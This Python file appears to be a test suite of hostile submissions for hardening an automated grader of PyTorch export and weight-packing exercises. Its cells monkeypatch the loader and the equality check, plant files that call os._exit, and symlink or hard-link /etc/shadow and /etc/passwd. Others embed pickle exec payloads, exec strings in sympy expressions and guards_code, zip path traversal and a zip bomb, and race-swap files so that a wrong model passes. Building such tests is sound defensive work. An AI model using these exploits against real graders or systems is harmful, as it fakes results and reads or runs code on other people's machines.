# ruff: noqa
"""What is left as a file, and looked at where the student's code never was."""

# %% loader_patched: the loader of exported programs is one's own [ship]
class Program:
    def __init__(self): self.number = 0

    def module(self):
        self.number += 1
        return lambda x: net(1)(x)


real = torch.export.load
torch.export.load = lambda *a, **k: Program()
check.equal = lambda *a, **k: None


def ship(model, example, path):
    path.write_bytes(b"nothing")
    return 7

# %% module_files: files named like modules beside the exported one [ship]
def ship(model, example, path):
    for name in ("torch", "sitecustomize", "usercustomize", "pathlib", "sympy", "export", "numpy", "json", "zipfile", "encodings", "judge", "unit24"):
        with open(f"{name}.py", "w") as file:
            file.write("import os\nos._exit(0)\n")
    with open("x.pth", "w") as file:
        file.write("import os; os._exit(0)\n")
    with open("pyvenv.cfg", "w") as file:
        file.write("home = .\n")
    wrong = nn.Sequential(*[layer for layer in model if not isinstance(layer, nn.Tanh)])
    torch.export.save(torch.export.export(wrong, (example,)), path)
    return path.stat().st_size

# %% links: symbolic links to files that only the grader may read [ship]
import os


def ship(model, example, path):
    os.symlink("/etc/shadow", path)
    os.symlink("/", "root")
    os.symlink("..", "up")
    os.symlink(path.name, "loop")
    return 7

# %% hard_link: a hard link to another file of the machine [pack]
import os


def pack(weights, path):
    for source in ("/etc/passwd", os.__file__, np.__file__):
        try:
            os.link(source, path)
            return
        except OSError:
            pass
    path.write_bytes(b"")

# %% fifo: a pipe that nobody writes to [pack]
import os


def pack(weights, path):
    os.mkfifo("pipe")
    os.mkfifo(path.with_suffix(".pipe"))
    os.mkfifo(path)

# %% folder_as_file: a folder, and names that are no text [pack]
import os


def pack(weights, path):
    for name in (b"\xff\xfe", b"-rf", b"a\nb", b"\x1b[2J"):
        os.mkdir(name)
        open(os.path.join(name, b"\xff"), "wb").close()
    path.mkdir()

# %% sparse: files of no bytes that say that they are huge [pack]
def pack(weights, path):
    for number in range(5):
        with open(f"sparse{number}", "wb") as file:
            file.truncate(250 << 20)
    with open(path, "wb") as file:
        file.truncate(250 << 20)

# %% many_small: more files than anybody wants to copy [pack]
import os


def pack(weights, path):
    for number in range(30_000):
        os.close(os.open(f"f{number}", os.O_CREAT))

# %% deep_folders: folders so deep that no path names them [pack]
import os


def pack(weights, path):
    home = os.open(".", os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    open("last", "w").write("x")
    os.fchdir(home)
    path.write_bytes(b"x")

# %% npz_pickle: an array of objects, which a pickle makes [pack]
class Evil:
    def __reduce__(self):
        return exec, ("import numpy; numpy.abs = lambda *a: 0",)


def pack(weights, path):
    parts = {}
    for name, matrix in weights.items():
        parts[f"{name}.q"] = np.array([[Evil()]], dtype=object)
        parts[f"{name}.scale"] = np.ones(len(matrix), dtype=np.float32)
    np.savez(path, **parts)

# %% npz_bomb: ten gigabytes in a small file [pack]
import zipfile


def pack(weights, path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as whole:
        for name, matrix in weights.items():
            head = b"{'descr': '|i1', 'fortran_order': False, 'shape': (100000, 1000000), }"
            data = b"\x93NUMPY\x01\x00" + (len(head) + 1).to_bytes(2, "little") + head + b"\n"
            with whole.open(f"{name}.q.npy", "w") as file:
                file.write(data)
                for _ in range(50):
                    file.write(bytes(1 << 20))

# %% npz_bad_heads: heads with code, negative shapes, other dtypes [pack]
import zipfile


def pack(weights, path):
    with zipfile.ZipFile(path, "w") as whole:
        for number, (name, matrix) in enumerate(weights.items()):
            for kind, shape in ((".q", "(-1, 5)"), (".scale", "__import__('os')._exit(0)")):
                head = f"{{'descr': '|i1', 'fortran_order': False, 'shape': {shape}, }}\n".encode()
                whole.writestr(f"{name}{kind}.npy", b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head)

# %% npz_names: names that climb out of the folder [pack]
import io
import zipfile


def pack(weights, path):
    with zipfile.ZipFile(path, "w") as whole:
        for name in weights:
            one = io.BytesIO()
            np.save(one, np.zeros((1, 1), np.int8))
            whole.writestr(f"../../../../{name}.q.npy", one.getvalue())
            whole.writestr(f"{name}.q.npy", one.getvalue())
            one = io.BytesIO()
            np.save(one, np.zeros(len(weights[name]), np.float32))
            whole.writestr(f"{name}.scale.npy", one.getvalue())

# %% npz_structured: dtypes whose names lie [pack]
def pack(weights, path):
    parts = {}
    for name, matrix in weights.items():
        parts[f"{name}.q"] = np.zeros(matrix.shape, dtype=[("int8", "i1")])
        parts[f"{name}.scale"] = np.zeros(len(matrix), dtype="U10")
    np.savez(path, **parts)

# %% npz_nan: scales that are not numbers [pack]
def pack(weights, path):
    parts = {}
    for name, matrix in weights.items():
        parts[f"{name}.q"] = np.zeros(matrix.shape, np.int8)
        parts[f"{name}.scale"] = np.full(len(matrix), np.nan, np.float32)
    np.savez(path, **parts)

# %% npz_broadcast: a row that stands for all [pack]
def pack(weights, path):
    parts = {}
    for name, matrix in weights.items():
        parts[f"{name}.q"] = np.zeros((1, matrix.shape[1]), np.int8)
        parts[f"{name}.scale"] = np.zeros(len(matrix), np.float32)
    np.savez(path, **parts)

# %% npz_empty: a file without a matrix [pack]
def pack(weights, path):
    np.savez(path)

# %% exchanged: a small file while its size is asked for, a large one while it is read [pack]
import os
import signal
import threading
import time


def both(weights, path):
    small, large = {}, {}
    for n, m in weights.items():
        small[n + ".q"] = np.zeros(m.shape, np.int8)
        small[n + ".scale"] = np.ones(len(m), np.float32)
        scale = np.abs(m).max(1) / 127
        large[n + ".q"] = np.round(m / scale[:, None]).astype(np.int8)
        large[n + ".scale"] = scale.astype(np.float32)
    large["padding"] = np.zeros(10_000)
    np.savez_compressed(path, **small)
    with open("large", "wb") as file:
        np.savez(file, **large)


def pack(weights, path):
    both(weights, path)
    path = str(path)
    signal.signal(signal.SIGCONT, lambda *a: os.path.exists("large") and os.rename("large", path))

# %% exchanged_by_thread: the same, as quick as a thread can [pack]
import os
import threading


def pack(weights, path):
    small, large = {}, {}
    for n, m in weights.items():
        small[n + ".q"] = np.zeros(m.shape, np.int8)
        small[n + ".scale"] = np.ones(len(m), np.float32)
        scale = np.abs(m).max(1) / 127
        large[n + ".q"] = np.round(m / scale[:, None]).astype(np.int8)
        large[n + ".scale"] = scale.astype(np.float32)
    large["padding"] = np.zeros(10_000)
    names = str(path), f"other{path.name}"
    with open(names[0], "wb") as file:
        np.savez_compressed(file, **small)
    with open(names[1], "wb") as file:
        np.savez(file, **large)

    def swap():
        for _ in range(20_000):
            os.rename(names[0], "third")
            os.rename(names[1], names[0])
            os.rename("third", names[1])

    threading.Thread(target=swap, daemon=True).start()

# %% folder_exchanged: a folder becomes a link while it is copied [pack]
import os
import threading


def pack(weights, path):
    os.mkdir("inner")
    os.symlink("/etc", "link")
    path.write_bytes(b"x")

    def swap():
        while True:
            try:
                os.rename("inner", "kept")
                os.rename("link", "inner")
                os.rename("inner", "link")
                os.rename("kept", "inner")
            except OSError:
                pass

    threading.Thread(target=swap, daemon=True).start()

# %% export_pickle: code in the place of the sample inputs [ship]
import io
import zipfile


def ship(model, example, path):
    wrong, whole, payload = nn.Sequential(*[m for m in model if not isinstance(m, nn.Tanh)]), io.BytesIO(), io.BytesIO()
    torch.export.save(torch.export.export(wrong, (example,)), whole)
    state = [w.tolist() for w in model.state_dict().values()]
    code = f"""
import torch
import torch.export.exported_program as p

def module(self, torch=torch, state={state}):
    w, b, v, c = (torch.tensor(t) for t in state)
    return lambda x: torch.tanh(x @ w.T + b) @ v.T + c

p.ExportedProgram.module = module
"""

    class Evil:
        def __reduce__(self): return exec, (code,)

    torch.save({"x": Evil()}, payload)
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            b.writestr(item.filename, payload.getvalue() if "sample_inputs" in item.filename else a.read(item))
    return path.stat().st_size

# %% export_weights_pickle: code in the place of every part that may be a pickle [ship]
import io
import pickle
import zipfile


class Evil:
    def __reduce__(self): return exec, ("import torch.export.exported_program as p\np.ExportedProgram.module = lambda self: print",)


def ship(model, example, path):
    whole, payload = io.BytesIO(), pickle.dumps(Evil())
    torch.export.save(torch.export.export(model, (example,)), whole)
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            keep = item.filename.endswith((".json", "version", "byteorder", "archive_format", ".data/serialization_id"))
            b.writestr(item.filename, a.read(item) if keep else payload)
    return path.stat().st_size

# %% export_expression: code in a symbolic size [ship]
import io
import zipfile

from torch.export import Dim


def ship(model, example, path):
    state = [w.tolist() for w in model.state_dict().values()]
    wrong, whole = nn.Sequential(*[layer for layer in model if not isinstance(layer, nn.Tanh)]), io.BytesIO()
    torch.export.save(torch.export.export(wrong, (example,), dynamic_shapes=({0: Dim("b", min=2, max=9)},)), whole)
    code = f"""
import torch
import torch.export.exported_program as p

def module(self, torch=torch, state={state}):
    w, b, v, c = (torch.tensor(t) for t in state)
    return lambda x: torch.tanh(x @ w.T + b) @ v.T + c

p.ExportedProgram.module = module
"""
    payload = "exec('" + code.replace("\n", "\\\\n") + "') or Symbol("
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if item.filename.endswith("model.json"):
                data = data.replace(b'"expr_str": "Symbol(', b'"expr_str": "' + payload.encode())
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% export_expression_nested: the same by attributes, strings and lambdas in a formula [ship]
import io
import json
import zipfile

from torch.export import Dim

FORMULAS = [
    "Symbol('b').__class__.__init__.__globals__['__builtins__']['exec']('raise SystemExit')",
    "Function('exec')('1')",
    "Lambda(Symbol('x'), 1)(exec)",
    "(lambda: exec('raise SystemExit'))()",
    "[exec('raise SystemExit') for _ in (1,)]",
    "sympify('__import__(\"os\")._exit(0)')",
    "S('__import__(\"os\")._exit(0)')",
    "parse_expr('__import__(\"os\")._exit(0)')",
    "Float('1', precision=10**9)",
    "Integer(10)**Integer(10)**Integer(10)**Integer(10)",
]


def ship(model, example, path):
    wrong, whole = nn.Sequential(*[layer for layer in model if not isinstance(layer, nn.Tanh)]), io.BytesIO()
    torch.export.save(torch.export.export(wrong, (example,), dynamic_shapes=({0: Dim("b", min=2, max=9)},)), whole)
    number = [0]

    def spoil(thing):
        if isinstance(thing, dict):
            for key, value in thing.items():
                if key in ("expr_str", "hint_str") and isinstance(value, str):
                    thing[key] = FORMULAS[(number[0] + int(path.stem[-1])) % len(FORMULAS)]
                    number[0] += 1
                else:
                    spoil(value)
        elif isinstance(thing, list):
            for value in thing:
                spoil(value)

    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if item.filename.endswith("model.json"):
                said = json.loads(data)
                spoil(said)
                data = json.dumps(said).encode()
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% export_guards: code in the guards of a program, which answers in its place [ship]
import io
import json
import zipfile


def ship(model, example, path):
    state = [w.tolist() for w in model.state_dict().values()]
    wrong, whole = nn.Sequential(*[layer for layer in model if not isinstance(layer, nn.Tanh)]), io.BytesIO()
    torch.export.save(torch.export.export(wrong, (example,)), whole)
    code = f"""
import torch
def detach(self, state={state}, real=torch.Tensor.detach):
    import sys, torch
    frame = sys._getframe(1)
    if frame.f_code.co_name != "<listcomp>":
        return real(self)
    x = frame.f_locals["x"]
    w, b, v, c = (torch.tensor(t) for t in state)
    return torch.tanh(x @ w.T + b) @ v.T + c
torch.Tensor.detach = detach
"""
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if item.filename.endswith("model.json"):
                said = json.loads(data)
                said["guards_code"] = [f"exec(bytes.fromhex('{code.encode().hex()}').decode()) or True"]
                data = json.dumps(said).encode()
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% export_guards_exit: code in the guards of a program, which ends the process [ship]
import io
import json
import zipfile


def ship(model, example, path):
    whole = io.BytesIO()
    torch.export.save(torch.export.export(model, (example,)), whole)
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if item.filename.endswith("model.json"):
                said = json.loads(data)
                said["guards_code"] = ["__import__('os')._exit(0)"]
                data = json.dumps(said).encode()
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% export_target: functions of a program that are not torch's [ship]
import io
import json
import re
import zipfile


def ship(model, example, path):
    whole = io.BytesIO()
    torch.export.save(torch.export.export(model, (example,)), whole)
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if item.filename.endswith("model.json"):
                data = re.sub(rb'"torch\.ops\.aten\.tanh\.default"', b'"os.system"', data)
                data = re.sub(rb'"torch\.ops\.aten\.linear\.default"', b'"torch.load"', data)
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% export_custom_object: a script object, and a name that is no path, among the constants [ship]
import io
import json
import zipfile


def ship(model, example, path):
    whole = io.BytesIO()
    torch.export.save(torch.export.export(model, (example,)), whole)
    with zipfile.ZipFile(whole) as a, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as b:
        for item in a.infolist():
            data = a.read(item)
            if "config" in item.filename and item.filename.endswith(".json"):
                text = data.decode()
                text = text.replace('"use_pickle": false', '"use_pickle": true').replace('"path_name": "weight', '"path_name": "../../../../etc/weight')
                data = text.encode()
            b.writestr(item.filename, data)
    return path.stat().st_size

# %% home_files: settings in every place where a library looks for them [ship]
import os
from pathlib import Path


def ship(model, example, path):
    for name in (".pythonrc.py", ".config/torch/x.py", ".cache/torch/hub/x.py", "torch_compile_debug/x.py", "ggml.py"):
        place = Path.home() / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("raise SystemExit")
    os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(Path.home())
    wrong = nn.Sequential(*[layer for layer in model if not isinstance(layer, nn.Tanh)])
    torch.export.save(torch.export.export(wrong, (example,)), path)
    return path.stat().st_size
